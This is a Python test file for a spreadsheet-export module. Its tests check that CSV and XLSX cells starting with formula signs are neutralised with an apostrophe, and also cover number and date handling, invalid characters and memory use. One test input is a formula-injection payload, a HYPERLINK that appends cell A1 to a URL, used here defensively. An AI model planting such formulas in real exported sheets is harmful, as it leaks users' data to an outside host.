"""Write sheets that hold text as text, whatever it looks like, in little memory."""

import csv
import io
import tempfile
import tracemalloc
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import python_calamine
from hypothesis import given
from hypothesis import strategies as st

from yanxiu.foundation import sheets
from yanxiu.foundation.sheets import Form

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]


def as_csv(*rows: Sequence[object]) -> list[list[str]]:
    with sheets.written(rows, ["姓名"], form=Form.CSV) as sheet:
        text = sheet.read().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


def as_xlsx(*rows: Sequence[object]) -> list[Any]:
    with sheets.written(rows, ["姓名"]) as sheet:
        book = python_calamine.load_workbook(sheet)
        return [[*row] for row in book.get_sheet_by_index(0).iter_rows()][1:]


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", " ", "\u3000", "\ufeff", "\u200b"])
def test_no_text_begins_like_a_formula(sign: str, before: str) -> None:
    risky = f'{before}{sign}HYPERLINK("http://e/?"&A1)'
    for rows in (as_csv([risky]), as_xlsx([risky])):
        (cell,) = rows[0]
        assert isinstance(cell, str)
        assert cell.startswith("'")


def test_a_phone_with_its_country_stays_readable() -> None:
    assert as_csv(["+8613800000001"]) == [["'+8613800000001"]]
    assert as_xlsx(["+8613800000001"]) == [["'+8613800000001"]]


def test_an_xlsx_holds_no_formula_and_no_link() -> None:
    assert as_xlsx(["=1+1", "http://example.org/"]) == [["'=1+1", "http://example.org/"]]


@given(st.text(st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Zs"])))
def test_what_was_guarded_comes_back_as_it_was(text: str) -> None:
    assert sheets.restored(sheets.plain(text)) in {text, text.removeprefix("'")}


def test_numbers_stay_numbers_and_moments_are_told_in_chinas_time() -> None:
    moment = datetime(2025, 7, 19, 16, 0, tzinfo=UTC)
    row = [-3, 2.5, None, date(2025, 7, 20), moment, 110101199003074514, True]
    told = ["2025-07-20", "2025-07-20 00:00:00", "110101199003074514", "True"]
    assert as_csv(row) == [["-3", "2.5", "", *told]]
    assert as_xlsx(row) == [[-3, 2.5, "", *told]]


def test_what_no_sheet_can_hold_is_marked_and_the_rest_stays() -> None:
    assert as_xlsx(["王\ud800\x07芳"]) == [["王\ufffd\ufffd芳"]]
    assert as_csv(["王\ud800\x07芳"]) == [["王\ufffd\ufffd芳"]]
    ((long,),) = as_xlsx(["长" * 40_000])
    assert isinstance(long, str)
    assert len(long) == 32_767


@pytest.mark.parametrize("form", Form)
def test_a_failing_row_leaves_no_file_behind(
    form: Form, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def rows() -> Iterator[list[str]]:
        yield ["王芳"]
        raise RuntimeError

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(RuntimeError):
        sheets.written(rows(), ["姓名"], form=form)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("form", Form)
def test_three_thousand_rows_take_no_more_memory_than_three(form: Form) -> None:
    def peak(many: int) -> int:
        tracemalloc.start()
        sheets.written(
            ([f"教师{n}", "语文"] for n in range(many)), ["姓名", "学科"], form=form
        ).close()
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    peak(3)
    assert peak(3_000) < peak(3) + 2_000_000
